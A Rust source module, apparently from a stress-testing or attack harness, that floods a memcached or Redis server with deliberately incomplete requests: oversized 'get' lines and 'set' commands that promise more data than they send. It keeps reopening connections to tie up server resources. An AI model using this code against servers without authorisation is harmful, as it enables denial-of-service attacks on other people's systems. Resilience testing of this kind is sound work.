//! Requests that are never completed.

use std::time::Duration;

use super::context::AttackContext;
use super::redis as requests;
use crate::protocol::Protocol;

/// Bytes, nearly as many as a line of memcached may have.
const LONG: usize = 1_000_000;

/// A connection that was closed is made again after this time.
const RETURN: Duration = Duration::from_millis(200);

pub(super) fn run(context: &AttackContext<'_>, number: u32) {
    let half = match context.protocol {
        Protocol::Redis => requests::half(number),
        _ => half(number),
    };
    while !context.is_over() {
        let Some(mut connection) = context.connect() else {
            continue;
        };
        context.count_requests(1);
        if connection.send(&half) {
            while !context.is_over() && connection.receive(&mut [0; 1_024]).is_some() {}
        }
        context.pause(RETURN);
    }
}

fn half(number: u32) -> Vec<u8> {
    match number % 6 {
        0..4 => {
            let mut line = b"get".to_vec();
            while line.len() < LONG {
                line.extend_from_slice(format!(" ~half{}", line.len()).as_bytes());
            }
            line
        }
        4 => [&b"set ~half 0 0 60000\r\n"[..], &[b'h'; 59_999]].concat(),
        _ => [&b"set ~half 0 0 1000000\r\n"[..], &[b'h'; 999_999]].concat(),
    }
}
